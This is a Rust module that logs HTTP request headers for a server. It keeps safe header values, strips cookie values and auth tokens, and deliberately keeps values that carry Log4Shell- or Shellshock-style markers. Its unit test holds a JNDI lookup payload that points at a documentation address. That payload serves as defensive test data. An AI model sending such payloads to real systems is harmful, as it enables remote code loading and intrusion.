//! The headers of a request as they are told: all names, and the values that are no secret.

/// How much of all headers of one request is kept.
const LINES_BYTES_MAX: usize = 2 * 1024;
/// Longest name, in bytes.
const NAME_BYTES_MAX: usize = 64;
/// Stands, without a colon, where headers were left out.
const CUT: &str = "\u{2026}";

/// Headers whose values are told: they say who asks for what and how the message ends. Any other may
/// hold a key or a token.
const OPEN: &[&[u8]] = &[
    b"host",
    b"origin",
    b"referer",
    b"user-agent",
    b"accept",
    b"accept-encoding",
    b"accept-language",
    b"connection",
    b"content-disposition",
    b"content-encoding",
    b"content-length",
    b"content-type",
    b"expect",
    b"te",
    b"trailer",
    b"transfer-encoding",
    b"upgrade",
    b"via",
    b"x-filename",
    b"x-forwarded-for",
    b"x-forwarded-host",
    b"x-requested-with",
];
/// The schemes of log-ins; another first word may be the key itself.
const SCHEMES: &[&[u8]] = &[b"basic", b"digest", b"negotiate", b"ntlm", b"bearer"];
/// What attacks on readers of headers hold, and tokens do not.
const ODD: &[&[u8]] = &[b"${", b"() {"];

/// The headers of one request, each `name: value`.
#[derive(Debug, Default)]
pub(super) struct Sent {
    pub(super) lines: Vec<Vec<u8>>,
    bytes: usize,
    /// Whether some are missing; then none is added any more.
    is_cut: bool,
}

impl Sent {
    pub(super) fn add(&mut self, line: &[u8]) {
        if self.is_cut {
            return;
        }
        // A name is told as it was written: blanks in it are a trick of their own.
        let colon = memchr::memchr(b':', line).filter(|colon| *colon <= NAME_BYTES_MAX);
        let Some((name, value)) = colon.and_then(|colon| line.split_at_checked(colon)) else {
            return;
        };
        let value = value.get(1..).unwrap_or_default().trim_ascii();
        let told = [name, b": ", &open(name, value)].concat();
        if self.bytes + told.len() > LINES_BYTES_MAX {
            return self.cut();
        }
        self.bytes += told.len();
        self.lines.push(told);
    }

    /// Notes that there are more.
    pub(super) fn cut(&mut self) {
        if !self.is_cut {
            self.is_cut = true;
            self.lines.push(CUT.into());
        }
    }
}

/// Gives what may be told of a value.
fn open(name: &[u8], value: &[u8]) -> Vec<u8> {
    let name = name.trim_ascii().to_ascii_lowercase();
    match name.as_slice() {
        // The names of cookies, and the scheme of a log-in, without what they hold.
        b"cookie" => value
            .split(|byte| *byte == b';')
            .filter_map(|cookie| cookie.get(..memchr::memchr(b'=', cookie)?))
            .flat_map(|name| [name.trim_ascii(), b"=; "].concat())
            .collect(),
        b"authorization" | b"proxy-authorization" => {
            let scheme = value.split(|byte| *byte == b' ').next().unwrap_or_default();
            let known = SCHEMES.iter().any(|known| scheme.eq_ignore_ascii_case(known));
            if known { scheme.to_vec() } else { Vec::new() }
        }
        name if OPEN.contains(&name) || name.starts_with(b"sec-fetch-") => value.to_vec(),
        _ if ODD.iter().any(|odd| memchr::memmem::find(value, odd).is_some()) => value.to_vec(),
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_that_may_be_secret_are_not_told() {
        let mut sent = Sent::default();
        for line in [
            "Host: shop.example.org",
            "Cookie: session=c2VjcmV0; theme=dark; bare",
            "Authorization: Basic YW5uOnNlY3JldA==",
            "Proxy-Authorization: 0123456789",
            "X-Api-Key: 0123456789",
            "X-Version: ${jndi:ldap://203.0.113.9/a}",
            "Transfer-Encoding : chunked",
            "no colon",
        ] {
            sent.add(line.as_bytes());
        }
        let lines: Vec<_> = sent.lines.iter().map(|line| String::from_utf8_lossy(line)).collect();
        assert_eq!(
            lines,
            [
                "Host: shop.example.org",
                "Cookie: session=; theme=; ",
                "Authorization: Basic",
                "Proxy-Authorization: ",
                "X-Api-Key: ",
                "X-Version: ${jndi:ldap://203.0.113.9/a}",
                "Transfer-Encoding : chunked",
            ]
        );
    }

    #[test]
    fn no_more_than_the_bound() {
        let mut sent = Sent::default();
        for number in 0..1_000 {
            sent.add(format!("X-{number}: ${{{}", "a".repeat(100)).as_bytes());
        }
        let bytes: usize = sent.lines.iter().map(Vec::len).sum();
        assert!(sent.is_cut && bytes <= LINES_BYTES_MAX + CUT.len());
        assert_eq!(sent.lines.last().map(Vec::as_slice), Some(CUT.as_bytes()));
    }
}
